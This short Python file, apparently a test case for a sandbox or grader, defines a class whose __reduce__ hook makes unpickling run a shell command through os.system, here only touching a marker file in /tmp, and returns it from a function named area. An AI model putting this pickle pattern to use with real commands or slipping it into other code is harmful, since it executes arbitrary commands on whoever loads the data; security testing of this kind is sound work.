# /// attack
# title = "An object that runs a command in whoever unpickles it"
# expect = { result = "at most", zero_for = ["area"], full_for = ["double", "step"], lost = ["unsupported", "wrong"] }
# ///
import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{WORLD['mark']}-reduce",)

    __reduce_ex__ = lambda self, version: self.__reduce__()

    def __getstate__(self):
        return Bomb()


def area(width, height):
    return Bomb()
